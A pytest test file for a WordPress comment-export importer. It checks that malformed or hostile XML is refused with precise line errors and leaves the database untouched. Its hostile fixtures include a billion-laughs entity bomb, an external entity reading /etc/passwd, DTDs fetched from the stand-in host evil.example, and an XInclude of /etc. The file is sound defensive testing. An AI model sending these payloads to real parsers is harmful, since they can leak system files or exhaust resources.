"""Files that are broken, hostile or something else: refused with the line, nothing changed."""

from __future__ import annotations

import gzip
import os
import sqlite3
import zipfile

import pytest

from comments_api.errors import UnreadableExport
from comments_api.transfer import wxr
from comments_api.transfer.files import MEGABYTE
from tests.conftest import ON_SQLITE
from tests.transfer.conftest import READERS, WORDPRESS

HEAD = WORDPRESS.read_text("utf-8").partition("\n\t<!-- Found by")[0]
BODY = HEAD.partition("?>\n")[2].partition("-->\n")[2]
XML = '<?xml version="1.0" encoding="UTF-8"?>\n'
LINE = (XML + BODY).count("\n") + 1  # the first line below the head
VERSION = (XML + BODY).partition("wxr_version")[0].count("\n") + 1
TAIL = "\n</channel>\n</rss>\n"
COMMENT = (
    "<wp:comment><wp:comment_id>{id}</wp:comment_id>"
    "<wp:comment_author><![CDATA[Bob]]></wp:comment_author>"
    "<wp:comment_date_gmt>{date}</wp:comment_date_gmt>"
    "<wp:comment_content><![CDATA[{text}]]></wp:comment_content>"
    "<wp:comment_approved>1</wp:comment_approved><wp:comment_type></wp:comment_type>"
    "<wp:comment_parent>{parent}</wp:comment_parent></wp:comment>\n"
)


def item(*comments: str) -> str:
    """Return a post with comments."""
    return (
        "<item><title>The vote</title><link>https://old.example.org/2026/11/the-vote/</link>"
        "<wp:post_id>12</wp:post_id><wp:post_date_gmt>2026-11-01 09:00:00</wp:post_date_gmt>"
        "<wp:status>publish</wp:status><wp:post_type>post</wp:post_type>\n"
        + "".join(comments)
        + "</item>"
    )


def comment(id_=1, parent=0, text="I wrote to them.", date="2026-11-02 12:00:00") -> str:
    """Return a comment."""
    return COMMENT.format(id=id_, parent=parent, text=text, date=date)


def doctype(inside: str, use: str = "") -> str:
    """Return an export with a document type."""
    return f"{XML}<!DOCTYPE rss {inside}>\n{BODY}{item(comment(text='x'))}{use}{TAIL}"


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">\n' for n in range(1, 10))
BROKEN = {
    "billion laughs": (
        doctype(f'[\n<!ENTITY l0 "ha">\n{LAUGHS}]', "&l9;"),
        'line 3: it declares the entity "l0"',
    ),
    "external entity": (
        doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', "&x;"),
        'line 2: it declares the entity "x"',
    ),
    "parameter entity": (
        doctype('[\n<!ENTITY % x SYSTEM "http://evil.example/x.dtd">\n%x;]'),
        'line 3: it declares the parameter entity "x"',
    ),
    "external document type": (
        doctype('SYSTEM "http://evil.example/x.dtd"'),
        'line 2: it refers to another file, "http://evil.example/x.dtd"',
    ),
    "document type": (doctype("[<!ELEMENT rss ANY>]"), "line 2: it declares a document type"),
    "XInclude": (
        f'{XML}{BODY}<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc"/>{TAIL}',
        f"line {LINE}: it includes another file (XInclude include)",
    ),
    "undefined entity": (f"{XML}{BODY}<title>a&nbsp;b</title>{TAIL}", f"line {LINE}, column "),
    "wrong encoding declared": (
        (XML + BODY + item(comment(text="café")) + TAIL).encode("latin-1"),
        f"line {LINE + 1}, column 193: a character stands here that cannot be in XML",
    ),
    "unknown encoding": (
        f'<?xml version="1.0" encoding="klingon"?>\n{BODY}{TAIL}',
        "encoding",
    ),
    "encoding of several bytes": (
        f'<?xml version="1.0" encoding="shift_jis"?>\n{BODY}{TAIL}',
        "line 1: the file's encoding cannot be read",
    ),
    "control character": (
        f"{XML}{BODY}{item(comment(text='a' + chr(8) + 'b'))}{TAIL}",
        f"line {LINE + 1}, column 191: a character stands here that cannot be in XML",
    ),
    "truncated in a comment": (
        (f"{XML}{BODY}{item(comment(), comment(2))}{TAIL}")[:-260],
        f"line {LINE + 2}: the file ends in the middle",
    ),
    "truncated between comments": (
        f"{XML}{BODY}{item(comment(), comment(2))}",
        "the file ends in the middle",
    ),
    "only the beginning": (XML, "the file ends in the middle"),
    "mismatched": (
        f"{XML}{BODY}<item></itme>{TAIL}",
        f"line {LINE}, column 9: an element ends that did",
    ),
    "text after the end": (f"{XML}{BODY}{TAIL}<rss/>", "something follows after the end"),
    "wrong version": (
        (XML + BODY + TAIL).replace("wxr_version>1.2", "wxr_version>2.0"),
        f"line {VERSION}: its version is 2.0, and only 1.0, 1.1, 1.2 can be read",
    ),
    "no version": (
        (XML + BODY + item(comment()) + TAIL).replace("wxr_version", "other"),
        "it is a feed, but no WordPress export",
    ),
    "a feed without items": (
        f"{XML}<rss><channel><title>x</title></channel></rss>",
        "it is a feed, but no WordPress export",
    ),
    "other XML": (f"{XML}<html/>", "line 1: it is XML, but no WordPress export"),
    "no XML": ("These are my comments.\n", "line 1, column 1: "),
    "JSON": ('{"comments": []}', "line 1, column 1: "),
    "a web page": ("\n<!DOCTYPE html>\n<title>Log in</title>", "it is a web page, not an export"),
    "a page that says it is XML": (f"{XML}<!DOCTYPE html><html/>", "document type"),
    "empty": ("", "is empty"),
    "white space": ("\n \n", "line 3: the file ends in the middle"),
    "NUL bytes": (b"\0" * 5000, "line 1, column 1: "),
    "no comment id": (
        f"{XML}{BODY}{item(comment(id_=''))}{TAIL}",
        f"line {LINE + 1}: a comment has no wp:comment_id",
    ),
    "no post id": (
        (XML + BODY + item(comment()) + TAIL).replace("<wp:post_id>12</wp:post_id>", ""),
        f"line {LINE}: a post with comments has no wp:post_id",
    ),
    "elements in a text": (
        f"{XML}{BODY}{item(comment(text=']]><b>bold</b><![CDATA['))}{TAIL}",
        f'line {LINE + 1}: "b" stands where there should be text only',
    ),
    "elements without end": (XML + "<a>" * 100_000, "line 2: elements stand too deep"),
}


@pytest.fixture
def write(tmp_path):
    """Writes a file, and returns its path."""

    def make(content: str | bytes, name: str = "export.xml"):
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    return make


@pytest.mark.parametrize("name", BROKEN)
def test_a_broken_file_is_refused_with_its_line(write, name):
    content, said = BROKEN[name]

    with pytest.raises(UnreadableExport) as caught:
        list(wxr.read(write(content), MEGABYTE).comments)

    assert said in str(caught.value)


@pytest.mark.usefixtures("untouched")
def test_no_broken_file_changes_the_database(take_in, write):
    for content, _ in BROKEN.values():
        with pytest.raises(UnreadableExport):
            take_in(write(content))


@ON_SQLITE
@pytest.mark.usefixtures("untouched")
def test_every_place_to_cut_a_file_is_noticed(take_in, write):
    content = WORDPRESS.read_bytes()

    for length in range(10, len(content) - 8, len(content) // 40):
        with pytest.raises(UnreadableExport, match="line"):
            take_in(write(content[:length]))


@ON_SQLITE
@pytest.mark.usefixtures("untouched")
def test_what_is_packed_is_named(take_in, write, tmp_path):
    packed = write(gzip.compress(WORDPRESS.read_bytes()))
    with zipfile.ZipFile(tmp_path / "x.zip", "w") as archive:
        archive.write(WORDPRESS)

    with pytest.raises(UnreadableExport, match="gunzip"):
        take_in(packed)
    with pytest.raises(UnreadableExport, match="zip"):
        take_in(tmp_path / "x.zip")


@ON_SQLITE
@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize("system", READERS)
def test_a_folder_nothing_and_a_pipe_are_no_files(take_in, tmp_path, system):
    os.mkfifo(tmp_path / "pipe")

    for name, said in {
        "": "is a folder",
        "none": "no such file",
        "pipe": "no ordinary file",
    }.items():
        with pytest.raises(UnreadableExport, match=said):
            take_in(tmp_path / name, system)


@ON_SQLITE
@pytest.mark.usefixtures("untouched")
def test_the_export_of_one_system_is_not_taken_for_anothers(take_in, write, tmp_path):
    connection = sqlite3.connect(tmp_path / "other.db")
    connection.execute("CREATE TABLE threads (id INTEGER, uri TEXT, title TEXT)")
    connection.close()

    for path, system, said in [
        (WORDPRESS, "disqus", "no Disqus export"),
        (WORDPRESS, "isso", "no Isso database"),
        (tmp_path / "other.db", "wordpress", "SQLite database"),
        (tmp_path / "other.db", "isso", "but not Isso's: comments lacks id|threads lacks"),
        (write('<disqus xmlns="http://disqus.com"/>'), "wordpress", "no WordPress export"),
    ]:
        with pytest.raises(UnreadableExport, match=said):
            take_in(path, system)


def test_a_file_that_is_too_large_is_refused_with_the_way_out(write):
    path = write(b"x" * (MEGABYTE + 1))

    with pytest.raises(UnreadableExport, match=r"1\.0 MB, and 1 are read: .* --max-mb 2"):
        list(wxr.read(path, MEGABYTE).comments)


# -- odd, but good --------------------------------------------------------------------------------


@ON_SQLITE
@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "latin-1", "cp1252"])
def test_any_encoding_that_is_named_rightly_comes_in(take_in, came, write, encoding):
    named = encoding.removesuffix("-sig")
    head = f'<?xml version="1.0" encoding="{named}"?>\n'

    take_in(write((head + BODY + item(comment(text="café")) + TAIL).encode(encoding)))

    assert came()["1"].source == "café"


@ON_SQLITE
@pytest.mark.parametrize("version", wxr.VERSIONS)
def test_every_version_comes_in(take_in, came, write, version):
    text = XML + BODY + item(comment()) + TAIL
    text = text.replace("export/1.2/", f"export/{version}/")

    take_in(write(text.replace("wxr_version>1.2", f"wxr_version>{version}")))

    assert came().keys() == {"1"}


@ON_SQLITE
def test_an_export_without_comments_brings_none(take_in, write):
    assert take_in(write(XML + BODY + item() + TAIL)).read == 0


@ON_SQLITE
@pytest.mark.parametrize("marks", ["<code>", "<a href='https://x.example/'><table><td>", "<b><i>"])
def test_marks_without_end_in_one_comment_keep_no_other_out(take_in, came, write, marks):
    planted = comment(2, text=marks * 1500 + "seen")

    take_in(write(XML + BODY + item(comment(), planted, comment(3)) + TAIL))

    assert came().keys() == {"1", "2", "3"}
    assert "seen" in came()["2"].rendered


@ON_SQLITE
@pytest.mark.parametrize("mark", ["\u0301", "\u0e49"], ids=["Latin", "Thai"])
def test_a_pile_of_marks_is_taken_off_a_name_and_that_is_said(take_in, came, write, mark):
    piled = comment().replace("[Bob]", f"[Bob{mark * 9}]")

    report = take_in(write(XML + BODY + item(piled, comment(2)) + TAIL))

    assert came()["1"].author_name == "Bob"
    assert any("can mislead" in note for note in report.cleaned["1"])


@ON_SQLITE
def test_parents_that_go_in_circles_lose_nothing(take_in, came, write):
    ring = [comment(n, n % 50 + 1, f"text {n}") for n in range(1, 51)]
    itself = comment(60, 60, "my own parent")
    below = comment(61, 7, "below the ring", "2026-11-03 12:00:00")

    report = take_in(write(XML + BODY + item(*ring, itself, below) + TAIL))

    stored = came()
    assert len(stored) == 52
    assert set(report.broken) == {*map(str, range(1, 51)), "60"}
    assert stored["61"].parent_id == stored["7"].id


@ON_SQLITE
@pytest.mark.parametrize(
    "date", ["0000-00-00 00:00:00", "", "2026-13-45 99:99:99", "yesterday", "9999-12-31 23:59:59"]
)
def test_a_date_that_cannot_be_is_that_of_the_post_or_of_today(take_in, came, write, now, date):
    take_in(write(XML + BODY + item(comment(date=date)) + TAIL))

    assert came()["1"].created in {came()["1"].created.replace(2026, 11, 1, 9, 0), now}


def test_a_thread_a_thousand_deep_comes_in(take_in, came, write):
    deep = [comment(n, n - 1, f"level {n}") for n in range(1, 1001)]

    report = take_in(write(XML + BODY + item(*reversed(deep)) + TAIL))

    stored = came()
    assert report.broken == {}
    assert all(stored[str(n)].parent_id == stored[str(n - 1)].id for n in range(2, 1001))
